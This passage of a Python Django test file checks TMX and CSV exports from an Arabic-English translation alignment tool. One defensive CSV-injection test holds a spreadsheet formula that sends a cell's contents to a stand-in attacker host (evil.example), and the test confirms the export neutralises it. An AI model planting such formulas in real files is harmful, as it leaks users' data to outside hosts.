"""TMX 1.4b and CSV export read back independently; TMX and Word import through the admin
upload, with bad files refused clearly and nothing changed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tempfile
import xml.etree.ElementTree as ET
from pathlib import Path

import docx
import lxml.html
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import TestCase
from django.urls import reverse
from lxml import etree
from translate.storage.tmx import tmxfile

from apps.alignment.models import Edit, Level, Link, Status
from apps.alignment.services import (
    EditError,
    edit_undo,
    link_confirm,
    link_confirm_undo,
    link_flag,
    link_merge,
    link_split,
    link_unlink,
)
from apps.bitext.linkcsv import csv_cell
from apps.bitext.textfile import InputError
from apps.bitext.tmx import METADATA_PROPS, XML_LANG, read_tmx, tmx_paragraphs
from apps.bitext.worddoc import read_docx
from apps.corpus.admin import parse_upload
from apps.corpus.models import Paragraph, Resolution, Sentence
from apps.corpus.services import ResolutionMeta, resolution_import
from apps.review.exchange import CSV_COLUMNS, resolution_csv, resolution_tmx
from apps.review.selectors import review_items
from tests.conftest import demo_sides

METADATA = set(METADATA_PROPS.values())


def upload(name: str, data: bytes) -> io.BytesIO:
    handle = io.BytesIO(data)
    handle.name = name
    return handle


def import_file(path: Path, slug: str, *options: str) -> tuple[str, str]:
    """`manage.py import_resolution path --slug slug *options`: its stdout and stderr."""
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "import_resolution",
        str(path),
        "--slug",
        slug,
        "--no-progress",
        *options,
        stdout=out,
        stderr=err,
    )
    return out.getvalue(), err.getvalue()


def export_then_import(
    slug: str, new_slug: str, *options: str, name: str = "export.tmx"
) -> tuple[str, str]:
    """`manage.py export_resolution slug *options` written to a file called name, then
    `manage.py import_resolution` of that file as new_slug: the import's stdout and stderr."""
    exported = io.StringIO()
    call_command("export_resolution", slug, *options, stdout=exported, stderr=io.StringIO())
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_text(exported.getvalue(), encoding="utf-8")
        return import_file(path, new_slug)


def word_file(paragraphs: list[str], numbered_from: int = 3) -> bytes:
    """A .docx with the paragraphs; those from `numbered_from` on in a Word numbered list."""
    document = docx.Document()
    for i, text in enumerate(paragraphs):
        # Strip the typed-in number: Word's list numbering is to supply it.
        document.add_paragraph(text, style="List Number" if i >= numbered_from else None)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


class ExportTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        ar, en = demo_sides()
        cls.resolution = resolution_import(
            ar_paragraphs=ar, en_paragraphs=en, meta=ResolutionMeta(slug="demo", symbol="CFM/EX21")
        )
        cls.user = User.objects.create_user("rania")

    def tmx(self, **params: str) -> tuple[tmxfile, object]:
        response = self.client.get(reverse("review:export-tmx", kwargs={"slug": "demo"}), params)
        assert response.status_code == 200
        return tmxfile(io.BytesIO(response.content)), response

    def test_tmx_read_back_by_translate_toolkit_matches_every_unit(self) -> None:
        """Every sentence link is a unit whose Arabic source, English target, status and
        score are those stored."""
        store, response = self.tmx(level="sentence")
        items = review_items([self.resolution], Level.SENTENCE, reasons=False)
        units = store.units
        assert len(units) == len(items) == 42
        for unit, item in zip(units, items, strict=True):
            assert unit.source == " ".join(item.ar)
            assert unit.target == " ".join(item.en)
            props = {p.get("type"): p.text for p in unit.xmlelement.findall("prop")}
            assert props["x-status"] == item.status == "auto"
            assert abs(float(props["x-score"]) - item.score) < 1e-4
        assert store.getsourcelanguage() == "ar"
        assert response["X-Tawazi-Unconfirmed"] == "42"
        header = store.document.getroot().find("header")
        assert header.get("segtype") == "sentence"
        assert "42 of 42 units are unconfirmed" in header.find("note").text

    def test_a_link_has_the_same_number_on_the_review_page_and_in_the_exports(self) -> None:
        """The fifth sentence link is "Sentence link #5" on its review page: its CSV row's
        position and its TMX unit's x-position say 5 too (they said 4, counting from 0)."""
        link = Link.objects.of(self.resolution).at("sentence").order_by("position")[4]
        page = self.client.get(
            reverse("review:link", kwargs={"slug": "demo", "link_id": link.pk})
        ).content.decode()
        assert "Sentence link #5 " in page
        store, _ = self.tmx(level="sentence")
        positions = [
            {p.get("type"): p.text for p in unit.xmlelement.findall("prop")}["x-position"]
            for unit in store.units
        ]
        assert positions[:6] == ["1", "2", "3", "4", "5", "6"]
        response = self.client.get(
            reverse("review:export-csv", kwargs={"slug": "demo"}), {"level": "sentence"}
        )
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[4]["position"] == "5" and rows[4]["ar"] == store.units[4].source

    def test_the_header_counts_one_unit_in_the_singular(self) -> None:
        """One confirmed sentence exported alone: the header says "The 1 unit is confirmed",
        not "All 1 units are"; one automatic unit left among the others is "1 of N units is"."""
        links = list(Link.objects.of(self.resolution).at("sentence").order_by("position"))
        link_confirm(resolution=self.resolution, link_id=links[0].pk, version=1, user=self.user)
        store, _ = self.tmx(level="sentence", confirmed="1")
        note = store.document.getroot().find("header").find("note").text
        assert note.startswith("The 1 unit is confirmed or corrected by a person."), note
        for link in links[1:-1]:
            link_confirm(resolution=self.resolution, link_id=link.pk, version=1, user=self.user)
        store, _ = self.tmx(level="sentence")
        note = store.document.getroot().find("header").find("note").text
        assert re.match(r"Warning: 1 of \d+ units is unconfirmed", note), note

    def test_clause_level_and_confirmed_only(self) -> None:
        """Clause units use segtype phrase; with confirmed=1 only confirmed links are exported."""
        store, _ = self.tmx(level="clause")
        paired = [i for i in review_items([self.resolution], Level.CLAUSE) if i.ar and i.en]
        assert len(store.units) == len(paired)
        assert store.document.getroot().find("header").get("segtype") == "phrase"
        chosen = list(Link.objects.of(self.resolution).at("sentence").order_by("position")[:3])
        for link in chosen:
            link_confirm(resolution=self.resolution, link_id=link.pk, version=1, user=self.user)
        store, response = self.tmx(level="sentence", confirmed="1")
        assert len(store.units) == 3
        assert response["X-Tawazi-Unconfirmed"] == "0"
        statuses = {
            p.text
            for u in store.units
            for p in u.xmlelement.findall("prop")
            if p.get("type") == "x-status"
        }
        assert statuses == {Status.CONFIRMED}

    def test_tmx_stays_well_formed_xml_with_control_characters_in_notes_and_metadata(
        self,
    ) -> None:
        """A reviewer's note or a symbol pasted with a control character (a form feed from a
        PDF, a terminal escape) still gives TMX that parses strictly, keeping the visible text."""
        Resolution.objects.filter(pk=self.resolution.pk).update(symbol="OIC/CFM-EX21\x0b/2025")
        link = Link.objects.of(self.resolution).at("sentence").order_by("position")[4]
        link_flag(
            resolution=self.resolution,
            link_id=link.pk,
            version=link.version,
            user=self.user,
            note="English drops \x0c'of 3400 trucks'\x1b",
        )
        response = self.client.get(reverse("review:export-tmx", kwargs={"slug": "demo"}))
        root = ET.fromstring(response.content)
        header = {p.get("type"): p.text for p in root.find("header").findall("prop")}
        assert header["x-symbol"] == "OIC/CFM-EX21/2025"
        notes = [
            p.text
            for tu in root.iter("tu")
            for p in tu.findall("prop")
            if p.get("type") == "x-note"
        ]
        assert notes == ["English drops 'of 3400 trucks'"]

    def test_a_reviewers_flag_travels_as_a_note_a_cat_tool_shows(self) -> None:
        """A flagged link's unit carries the reviewer's note as a TMX <note>, which CAT tools
        (OmegaT, translate-toolkit here) show beside the match; other units have none."""
        link = Link.objects.of(self.resolution).at("sentence").order_by("position")[6]
        note = "The Arabic says 3,400 trucks; the English 3,800"
        link_flag(
            resolution=self.resolution,
            link_id=link.pk,
            version=link.version,
            user=self.user,
            note=note,
        )
        store, _ = self.tmx(level="sentence")
        notes = [unit.getnotes() for unit in store.units]
        assert notes[6] == f"Flagged by a reviewer: {note}"
        assert [n for i, n in enumerate(notes) if i != 6] == [""] * (len(notes) - 1)

    def test_a_reviewed_unit_says_who_confirmed_or_corrected_it_and_when(self) -> None:
        """A CAT tool (OmegaT, Trados, memoQ) shows a match's changeid and changedate: a unit
        confirmed by rania says rania and the minute of her confirmation; one merged by an
        editor says the editor and the merge's time; a confirmation taken back leaves the unit
        as unreviewed units are, with neither."""
        links = list(Link.objects.of(self.resolution).at("paragraph").order_by("position")[:5])
        confirmed = link_confirm(
            resolution=self.resolution, link_id=links[0].pk, version=1, user=self.user
        )
        undone = link_confirm(
            resolution=self.resolution, link_id=links[1].pk, version=1, user=self.user
        )
        link_confirm_undo(
            resolution=self.resolution, link_id=links[1].pk, version=2, user=self.user
        )
        editor = User.objects.create_user("editor-yusuf")
        merged = link_merge(
            resolution=self.resolution,
            versions={links[3].pk: 1, links[4].pk: 1},
            user=editor,
        )
        # The confirmation of the flagged link stands: a flag is no review of the pairing.
        link_confirm(resolution=self.resolution, link_id=links[2].pk, version=1, user=self.user)
        link_flag(
            resolution=self.resolution,
            link_id=links[2].pk,
            version=2,
            user=editor,
            note="Check the date",
        )
        confirmed_at = Edit.objects.get(pk=confirmed.pk).created_at
        merged_at = Edit.objects.get(pk=merged.pk).created_at
        assert undone.pk
        root = ET.fromstring(
            self.client.get(
                reverse("review:export-tmx", kwargs={"slug": "demo"}), {"level": "paragraph"}
            ).content
        )
        units = root.findall("body/tu")
        assert len(units) == 41
        assert units[0].get("changeid") == "rania"
        assert units[0].get("changedate") == confirmed_at.astimezone(dt.UTC).strftime(
            "%Y%m%dT%H%M%SZ"
        )
        assert re.fullmatch(r"\d{8}T\d{6}Z", units[0].get("changedate"))
        assert units[1].get("changeid") is None and units[1].get("changedate") is None
        assert units[2].get("changeid") == "rania"
        assert units[3].get("changeid") == "editor-yusuf"
        assert units[3].get("changedate") == merged_at.astimezone(dt.UTC).strftime("%Y%m%dT%H%M%SZ")
        assert all(tu.get("changeid") is None for tu in units[4:])
        assert all(tu.get("changedate") is None for tu in units[4:])
        store, _ = self.tmx(level="paragraph", confirmed="1")
        assert [u.xmlelement.get("changeid") for u in store.units] == ["rania", "editor-yusuf"]
        # Who reviewed it and when cost one query, who made it and when one (link_creations),
        # however many links were reviewed.
        with self.assertNumQueries(6):
            resolution_tmx(resolution=self.resolution, level="paragraph")
        # An editor's account deleted since: the unit keeps the date, with no name.
        editor.delete()
        root = ET.fromstring(resolution_tmx(resolution=self.resolution, level="paragraph").document)
        merged_unit = root.findall("body/tu")[3]
        assert merged_unit.get("changeid") is None
        assert merged_unit.get("changedate") == merged_at.astimezone(dt.UTC).strftime(
            "%Y%m%dT%H%M%SZ"
        )

    def test_a_unit_says_who_made_the_pair_and_when(self) -> None:
        """A CAT tool (Trados, memoQ; OmegaT) shows a match's creationid and creationdate: a
        pair the aligner made at import says "Tawazi aligner" and the import's time, also once
        rania has confirmed it (she changed it; the aligner made it); the pair an editor merged
        says the editor and the merge's time, and the sentence pairs the aligner drew again
        under it say the aligner and the merge's time. Units had no creationid or creationdate.
        The file stays valid TMX 1.4b and imports back to the same paragraphs."""
        links = list(Link.objects.of(self.resolution).at("paragraph").order_by("position")[:5])
        link_confirm(resolution=self.resolution, link_id=links[0].pk, version=1, user=self.user)
        editor = User.objects.create_user("editor-yusuf")
        merged = link_merge(
            resolution=self.resolution, versions={links[3].pk: 1, links[4].pk: 1}, user=editor
        )

        def stamp(moment: dt.datetime) -> str:
            return moment.astimezone(dt.UTC).strftime("%Y%m%dT%H%M%SZ")

        # Imported a day before the edits (the test's import and merge share a second).
        day_before = dt.datetime.now(dt.UTC) - dt.timedelta(days=1)
        Resolution.objects.filter(pk=self.resolution.pk).update(created_at=day_before)
        imported = stamp(day_before)
        merged_at = stamp(Edit.objects.get(pk=merged.pk).created_at)
        url = reverse("review:export-tmx", kwargs={"slug": "demo"})
        content = self.client.get(url, {"level": "paragraph"}).content
        units = ET.fromstring(content).findall("body/tu")
        made = [(tu.get("creationid"), tu.get("creationdate")) for tu in units]
        assert made[0] == made[1] == made[2] == ("Tawazi aligner", imported)
        assert units[0].get("changeid") == "rania"
        assert made[3] == ("editor-yusuf", merged_at)
        assert set(made[4:]) == {("Tawazi aligner", imported)}
        dtd = etree.DTD(str(Path(__file__).with_name("tmx14.dtd")))
        root = etree.fromstring(content, etree.XMLParser(resolve_entities=False))
        assert dtd.validate(root), dtd.error_log.filter_from_errors()
        assert tmx_paragraphs(read_tmx(content)) == demo_sides()
        # The sentences under the merge are paired as they were: still the aligner's, at import.
        sentences = ET.fromstring(self.client.get(url, {"level": "sentence"}).content).findall(
            "body/tu"
        )
        made = {(tu.get("creationid"), tu.get("creationdate")) for tu in sentences}
        assert made == {("Tawazi aligner", imported)}
        # The merge undone, the two paragraph pairs it replaced are back, made as they were.
        edit_undo(resolution=self.resolution, edit_id=merged.pk, user=editor)
        units = ET.fromstring(self.client.get(url, {"level": "paragraph"}).content).findall(
            "body/tu"
        )
        made = [(tu.get("creationid"), tu.get("creationdate")) for tu in units]
        assert set(made) == {("Tawazi aligner", imported)} and len(made) == 42

    def test_the_tmx_header_says_which_tool_made_it_and_when(self) -> None:
        """The header carries creationtool, creationtoolversion and creationdate in TMX's
        YYYYMMDDThhmmssZ (UTC), as TMX 1.4b asks of a header."""
        before = dt.datetime.now(dt.UTC).replace(microsecond=0)
        response = self.client.get(reverse("review:export-tmx", kwargs={"slug": "demo"}))
        header = ET.fromstring(response.content).find("header")
        assert header.get("creationtool") == "Tawazi"
        assert header.get("creationtoolversion")
        created = dt.datetime.strptime(header.get("creationdate"), "%Y%m%dT%H%M%SZ")
        assert before <= created.replace(tzinfo=dt.UTC) <= dt.datetime.now(dt.UTC)

    def test_the_export_page_offers_the_locales_a_cat_tool_wants(self) -> None:
        """The export page asks for the TMX's language codes (ar and en by default); chosen as
        ar-SA and en-GB, every TMX link on the page carries them, and the TMX says ar-SA on
        srclang and each Arabic <tuv>, en-GB on each English one, with English as the source
        too; it stays valid TMX 1.4b and imports back, through the admin, as the same
        paragraphs. A bad code is a 400 page saying what is wanted, never a 500."""
        url = reverse("review:export", kwargs={"slug": "demo"})
        html = self.client.get(url).content.decode()
        page = lxml.html.fromstring(html)
        assert page.xpath("//input[@name='ar_locale']/@value") == ["ar"]
        assert page.xpath("//input[@name='en_locale']/@value") == ["en"]
        html = self.client.get(url, {"ar_locale": "ar-SA", "en_locale": "en-GB"}).content.decode()
        page = lxml.html.fromstring(html)
        assert page.xpath("//input[@name='ar_locale']/@value") == ["ar-SA"]
        tmx_links = [a for a in page.xpath("//a/@href") if ".tmx?" in a]
        assert len(tmx_links) == 13  # all, confirmed, English-source both; one-sided clauses
        assert all("ar_locale=ar-SA&en_locale=en-GB" in a for a in tmx_links), tmx_links
        csv_links = [a for a in page.xpath("//a/@href") if ".csv?" in a]
        assert csv_links and not [a for a in csv_links if "locale" in a]
        dtd = etree.DTD(str(Path(__file__).with_name("tmx14.dtd")))
        for source, srclang in (("ar", "ar-SA"), ("en", "en-GB")):
            response = self.client.get(
                reverse("review:export-tmx", kwargs={"slug": "demo"}),
                {
                    "level": "paragraph",
                    "source": source,
                    "ar_locale": "ar-SA",
                    "en_locale": "en-GB",
                },
            )
            root = etree.fromstring(response.content)
            assert dtd.validate(root), dtd.error_log.filter_from_errors()
            assert root.find("header").get("srclang") == srclang
            langs = [[tuv.get(XML_LANG) for tuv in tu.iter("tuv")] for tu in root.iter("tu")]
            assert all(pair == [srclang, ({"ar-SA", "en-GB"} - {srclang}).pop()] for pair in langs)
            parsed = parse_upload("tmx", {"file": SimpleUploadedFile("m.tmx", response.content)})
            assert (parsed.ar, parsed.en) == demo_sides()
        for params, message in (
            ({"ar_locale": "fr-FR"}, "&#x27;fr-FR&#x27; is not an Arabic language code"),
            ({"en_locale": "ar-SA"}, "&#x27;ar-SA&#x27; is not an English language code"),
            ({"en_locale": "en-" + "x" * 5000}, "is not an English language code"),
            ({"ar_locale": "ar-SA\x00"}, "is not an Arabic language code"),
        ):
            for name in ("review:export-tmx", "review:export"):
                response = self.client.get(reverse(name, kwargs={"slug": "demo"}), params)
                assert response.status_code == 400, (name, params)
                assert message in response.content.decode(), (name, params)
                assert "such as ar, ar-SA or ar-EG" in response.content.decode() or (
                    "such as en, en-US or en-GB" in response.content.decode()
                )
        # The page's download links fall back to ar and en while a code is refused: it says so.
        page = self.client.get(
            reverse("review:export", kwargs={"slug": "demo"}), {"ar_locale": "x"}
        )
        alert = re.sub(r"<[^>]+>", "", page.content.decode().split('role="alert">', 1)[1])
        assert "The downloads below use ar and en until the codes are accepted." in alert, alert

    def test_clauses_with_no_counterpart_are_left_out_of_the_tmx_and_counted(self) -> None:
        """The demo's aligner leaves 3 clauses with nothing on the other side. The TMX has no
        unit with an empty segment (which OmegaT, Trados or memoQ would import as an empty
        translation); its header, the response and the export page say how many were left out."""
        items = review_items([self.resolution], Level.CLAUSE, reasons=False)
        lone = [i for i in items if not (i.ar and i.en)]
        assert len(lone) == 3
        store, response = self.tmx(level="clause")
        root = store.document.getroot()
        for tu in root.iter("tu"):
            segs = {tuv.get(XML_LANG): tuv.find("seg").text for tuv in tu.findall("tuv")}
            assert set(segs) == {"ar", "en"} and all(segs.values()), segs
        lone_texts = {" ".join(i.ar or i.en) for i in lone}
        exported = {unit.source for unit in store.units} | {unit.target for unit in store.units}
        assert not lone_texts & exported
        header = root.find("header")
        props = {p.get("type"): p.text for p in header.findall("prop")}
        assert props["x-one-sided-left-out"] == "3"
        assert "3 links with no counterpart on one side" in header.find("note").text
        assert response["X-Tawazi-One-Sided-Left-Out"] == "3"
        assert response["X-Tawazi-Unconfirmed"] == str(len(items) - 3)
        html = self.client.get(reverse("review:export", kwargs={"slug": "demo"})).content.decode()
        assert "3 links have no counterpart on one side" in html
        assert "level=clause&amp;one_sided=1" in html
        assert "level=sentence&amp;one_sided=1" not in html  # every sentence link is a pair

    def test_one_sided_units_on_request_carry_one_tuv_only(self) -> None:
        """With one_sided=1 (for re-import into Tawazi) the 3 lone clauses are units with the
        one language they have: no empty <seg>, which a CAT tool would take for a translation."""
        store, response = self.tmx(level="clause", one_sided="1")
        assert len(store.units) == Link.objects.of(self.resolution).at("clause").count()
        shapes = [
            sorted(tuv.get(XML_LANG) for tuv in tu.findall("tuv"))
            for tu in store.document.getroot().iter("tu")
        ]
        assert sum(1 for s in shapes if len(s) == 1) == 3
        assert all(seg.text for seg in store.document.getroot().iter("seg"))
        assert response["X-Tawazi-One-Sided-Left-Out"] == "0"
        # Nor an empty <prop> (a lone Arabic clause had x-en-paragraphs and
        # x-en-paragraph-words with nothing in them); read back, every paragraph is whole.
        empty = [p.get("type") for p in store.document.getroot().iter("prop") if not p.text]
        assert empty == []
        assert list(tmx_paragraphs(read_tmx(response.content))) == list(demo_sides())

    def test_confirmed_only_before_any_review_says_it_is_empty(self) -> None:
        """Before anyone has confirmed a link, the confirmed-only TMX has no units and its note
        says why, instead of "All 0 units are confirmed"; the export page warns beside it."""
        store, _ = self.tmx(level="sentence", confirmed="1")
        note = store.document.getroot().find("header").find("note").text
        assert len(store.units) == 0
        assert note == "No units: no link at this level is confirmed or corrected by a person yet."
        html = self.client.get(reverse("review:export", kwargs={"slug": "demo"})).content.decode()
        assert html.count("(none yet: an empty file)") == 3

    def test_confirmed_only_leaves_out_links_a_reviewer_flagged_as_wrong(self) -> None:
        """A link confirmed and then flagged by a colleague is disputed: the confirmed-only TMX
        and CSV leave it out (a translation memory takes approved pairs only) and say so; the
        all-pairs TMX keeps it with its note; the export page counts it."""
        links = list(Link.objects.of(self.resolution).at("sentence").order_by("position")[:3])
        for link in links:
            link_confirm(resolution=self.resolution, link_id=link.pk, version=1, user=self.user)
        note = "The English has 'unconditional'; the Arabic does not"
        link_flag(
            resolution=self.resolution, link_id=links[1].pk, version=2, user=self.user, note=note
        )
        store, response = self.tmx(level="sentence", confirmed="1")
        ar, en = demo_sides()
        kept = [link.pk for link in links if link.pk != links[1].pk]
        items = {i.id: i for i in review_items([self.resolution], Level.SENTENCE)}
        assert [u.source for u in store.units] == [" ".join(items[pk].ar) for pk in kept]
        assert all(not u.getnotes() for u in store.units)
        assert response["X-Tawazi-Flagged-Left-Out"] == "1"
        header = store.document.getroot().find("header")
        assert "1 link confirmed but flagged by a reviewer as wrong left out" in (
            header.find("note").text
        )
        props = {p.get("type"): p.text for p in header.findall("prop")}
        assert props["x-flagged-left-out"] == "1"
        everything, _ = self.tmx(level="sentence")
        assert len(everything.units) == 42
        assert everything.units[1].getnotes() == f"Flagged by a reviewer: {note}"
        rows = list(
            csv.DictReader(
                io.StringIO(
                    self.client.get(
                        reverse("review:export-csv", kwargs={"slug": "demo"}),
                        {"level": "sentence", "confirmed": "1"},
                    ).content.decode("utf-8-sig")
                )
            )
        )
        assert [int(r["position"]) for r in rows] == [links[0].position + 1, links[2].position + 1]
        html = self.client.get(reverse("review:export", kwargs={"slug": "demo"})).content.decode()
        assert "1 confirmed link was flagged by a reviewer as wrong since" in html
        assert "(2 confirmed links, not flagged)" in html

    def test_export_page_warns_about_unconfirmed_links(self) -> None:
        """The warning counts the links reviewed in plain English: "None of the 42 links is
        confirmed or corrected yet", then "Only 1 of the 42 links is…", not "Only 0 of 42"."""
        html = self.client.get(reverse("review:export", kwargs={"slug": "demo"})).content.decode()
        assert "None of the 42 links is confirmed or corrected yet:" in html
        assert "Only 0 of" not in html
        first = Link.objects.of(Resolution.objects.get(slug="demo")).at(Level.SENTENCE).first()
        assert first is not None
        Link.objects.filter(pk=first.pk).update(status=Status.CONFIRMED)
        html = self.client.get(reverse("review:export", kwargs={"slug": "demo"})).content.decode()
        assert "Only 1 of the 42 links is confirmed or corrected:" in html
        assert "confirmed=1" in html
        assert "level=clause&amp;confirmed=1&amp;source=en" in html
        response = self.client.get(
            reverse("review:export-tmx", kwargs={"slug": "demo"}),
            {"level": "clause", "source": "en"},
        )
        assert response["Content-Disposition"] == 'attachment; filename="demo.clause.en-ar.tmx"'

    def test_a_tmx_with_chosen_locales_is_named_after_them(self) -> None:
        """An ar-SA file does not overwrite the plain ar one of the same level: the codes
        chosen are in the name, source first; the default names are unchanged."""
        url = reverse("review:export-tmx", kwargs={"slug": "demo"})
        for params, name in (
            ({"level": "sentence"}, "demo.sentence.tmx"),
            ({"level": "sentence", "ar_locale": "ar", "en_locale": "en"}, "demo.sentence.tmx"),
            ({"level": "clause", "source": "en"}, "demo.clause.en-ar.tmx"),
            ({"level": "sentence", "ar_locale": "ar-SA"}, "demo.sentence.ar-SA_en.tmx"),
            (
                {"level": "sentence", "ar_locale": "ar_sa", "en_locale": "en-us"},
                "demo.sentence.ar-SA_en-US.tmx",
            ),
            (
                {"level": "clause", "source": "en", "ar_locale": "ar-EG", "en_locale": "en-GB"},
                "demo.clause.en-GB_ar-EG.tmx",
            ),
        ):
            response = self.client.get(url, params)
            assert response.status_code == 200, params
            assert response["Content-Disposition"] == f'attachment; filename="{name}"', params

    def test_confirmed_only_and_one_sided_downloads_have_their_own_names(self) -> None:
        """The "confirmed pairs only" and "one-sided" files of a level do not overwrite the
        "all pairs" one in a translator's Downloads folder: each says what it holds; the
        default names are unchanged."""
        tmx = reverse("review:export-tmx", kwargs={"slug": "demo"})
        csv_url = reverse("review:export-csv", kwargs={"slug": "demo"})
        for url, params, name in (
            (tmx, {"level": "sentence"}, "demo.sentence.tmx"),
            (tmx, {"level": "sentence", "confirmed": "1"}, "demo.sentence.confirmed.tmx"),
            (tmx, {"level": "sentence", "one_sided": "1"}, "demo.sentence.one-sided.tmx"),
            (
                tmx,
                {"level": "clause", "confirmed": "1", "source": "en"},
                "demo.clause.en-ar.confirmed.tmx",
            ),
            (
                tmx,
                {"level": "sentence", "confirmed": "1", "ar_locale": "ar-SA"},
                "demo.sentence.ar-SA_en.confirmed.tmx",
            ),
            (
                tmx,
                {"level": "paragraph", "confirmed": "1", "one_sided": "1"},
                "demo.paragraph.confirmed.one-sided.tmx",
            ),
            (csv_url, {"level": "paragraph"}, "demo.paragraph.csv"),
            (csv_url, {"level": "paragraph", "confirmed": "1"}, "demo.paragraph.confirmed.csv"),
        ):
            response = self.client.get(url, params)
            assert response.status_code == 200, params
            assert response["Content-Disposition"] == f'attachment; filename="{name}"', params

    def test_csv_has_one_row_per_link(self) -> None:
        response = self.client.get(
            reverse("review:export-csv", kwargs={"slug": "demo"}), {"level": "paragraph"}
        )
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert len(rows) == 42
        ar, en = demo_sides()
        assert rows[5]["ar"] == ar[5] and rows[5]["en"] == en[5]
        assert rows[5]["status"] == "auto" and 0 <= float(rows[5]["score"]) <= 1

    def test_csv_notes_that_look_like_formulas_open_as_text_in_a_spreadsheet(self) -> None:
        """A reviewer's note starting with =, +, - or @ would run as a formula in Excel or
        LibreOffice (CSV injection): it gets a leading apostrophe, which spreadsheets hide, and
        every cell is quoted (OWASP); everything else in the row is exactly as stored."""
        notes = {
            0: '=HYPERLINK("https://evil.example/?"&B2,"Arabic source")',
            1: "+971 is the UAE's dialling code, not a paragraph number",
            2: "-3,400 trucks in the Arabic; the English says 3,800",
            3: "@Rania: check the date (25 August 2025)",
        }
        links = list(Link.objects.of(self.resolution).at("paragraph").order_by("position")[:5])
        for index, note in notes.items():
            link_flag(
                resolution=self.resolution,
                link_id=links[index].pk,
                version=links[index].version,
                user=self.user,
                note=note,
            )
        response = self.client.get(
            reverse("review:export-csv", kwargs={"slug": "demo"}), {"level": "paragraph"}
        )
        text = response.content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        for index, note in notes.items():
            assert rows[index]["note"] == "'" + note
        assert rows[4]["note"] == ""
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
        assert all(line.startswith('"') for line in text.splitlines())
        ar, en = demo_sides()
        assert (rows[0]["ar"], rows[0]["en"], rows[0]["flagged"]) == (ar[0], en[0], "1")

    def test_tmx_at_every_level_is_valid_tmx_14b_for_a_cat_tool(self) -> None:
        """After confirming and flagging (a note with quotes, <, & and Arabic), every export a
        translator can download validates strictly against the TMX 1.4b DTD, and each unit
        has xml:lang on every <tuv>, no empty <seg> and its source language's <tuv> first."""
        dtd = etree.DTD(str(Path(__file__).with_name("tmx14.dtd")))
        note = 'The Arabic has "3,400" & the English <3,800> شاحنة'
        for level in Level.values:
            links = list(Link.objects.of(self.resolution).at(level).order_by("position")[:4])
            for link in links[:3]:
                link_confirm(resolution=self.resolution, link_id=link.pk, version=1, user=self.user)
            for link in links[2:]:
                version = Link.objects.get(pk=link.pk).version
                link_flag(
                    resolution=self.resolution,
                    link_id=link.pk,
                    version=version,
                    user=self.user,
                    note=note,
                )
        for level in Level.values:
            for params in (
                {},
                {"confirmed": "1"},
                {"source": "en"},
                {"confirmed": "1", "source": "en"},
            ):
                response = self.client.get(
                    reverse("review:export-tmx", kwargs={"slug": "demo"}),
                    {"level": level, **params},
                )
                root = etree.fromstring(response.content, etree.XMLParser(resolve_entities=False))
                assert dtd.validate(root), (level, params, dtd.error_log.filter_from_errors())
                header = root.find("header")
                source = params.get("source", "ar")
                assert header.get("srclang") == source
                assert header.get("segtype") == {"clause": "phrase"}.get(level, level)
                units = root.findall("body/tu")
                items = review_items([self.resolution], level, reasons=False)
                expected = [
                    i
                    for i in items
                    if i.ar and i.en and ("confirmed" not in params or i.reviewed and not i.flagged)
                ]
                assert len(units) == len(expected) > 0
                for tu in units:
                    langs = [tuv.get(XML_LANG) for tuv in tu.findall("tuv")]
                    assert langs == ([source, "en" if source == "ar" else "ar"])
                    assert all("".join(seg.itertext()).strip() for seg in tu.iter("seg"))
                flagged = [tu for tu in units if tu.findtext("note", "").startswith("Flagged by")]
                assert len(flagged) == (0 if "confirmed" in params else 2)
                if flagged:
                    assert flagged[0].findtext("note") == f"Flagged by a reviewer: {note}"
        store = tmxfile(
            io.BytesIO(
                self.client.get(
                    reverse("review:export-tmx", kwargs={"slug": "demo"}),
                    {"level": "paragraph", "source": "en"},
                ).content
            )
        )
        ar, en = demo_sides()
        assert store.getsourcelanguage() == "en"
        assert (store.units[5].source, store.units[5].target) == (en[5], ar[5])


class SdgExportTests(TestCase):
    """The SDG targets' exports name each unit's target as the UN numbers it ("1.a")."""

    @classmethod
    def setUpTestData(cls) -> None:
        from tests.reader.test_views import import_sdg

        import_sdg("global_targets", "sdg-targets", keys=8)
        ar, en = demo_sides()
        resolution_import(
            ar_paragraphs=ar[:4], en_paragraphs=en[:4], meta=ResolutionMeta(slug="demo")
        )

    def test_tmx_units_carry_their_target_number(self) -> None:
        """Each sentence unit of target 1.a says x-ar-paragraph-labels and x-en-paragraph-labels
        "1.a"; the demo resolution, numbered by the reader, has no such property."""
        response = self.client.get(
            reverse("review:export-tmx", kwargs={"slug": "sdg-targets"}), {"level": "sentence"}
        )
        units = read_tmx(response.content, "targets.tmx")
        target = next(u for u in units if u.en.startswith("Ensure significant mobilization"))
        assert target.prop("x-en-paragraph-labels") == target.prop("x-ar-paragraph-labels") == "1.a"
        assert [u.prop("x-en-paragraph-labels") for u in units][:2] == ["1.1", "1.2"]
        demo = self.client.get(reverse("review:export-tmx", kwargs={"slug": "demo"}))
        assert all(u.prop("x-en-paragraph-labels") is None for u in read_tmx(demo.content, "d.tmx"))

    def export(self, level: str = "sentence") -> bytes:
        url = reverse("review:export-tmx", kwargs={"slug": "sdg-targets"})
        return self.client.get(url, {"level": level}).content

    def test_a_tawazi_tmx_imported_again_keeps_the_target_numbers(self) -> None:
        """The targets' sentence TMX, imported again as a new resolution (command and admin
        alike), reads 1.1 … 1.a, 1.b, 2.1 in the margin and cites "target 1.a"."""
        from tests.reader.test_views import gutter_labels

        path = Path(self.enterClassContext(tempfile.TemporaryDirectory())) / "targets.tmx"
        path.write_bytes(self.export())
        import_file(path, "targets-again", "--symbol", "A/RES/70/1")
        again = Resolution.objects.get(slug="targets-again")
        labels = {
            lang: list(
                Paragraph.objects.filter(resolution=again, lang=lang)
                .order_by("index")
                .values_list("source_label", flat=True)
            )
            for lang in ("ar", "en")
        }
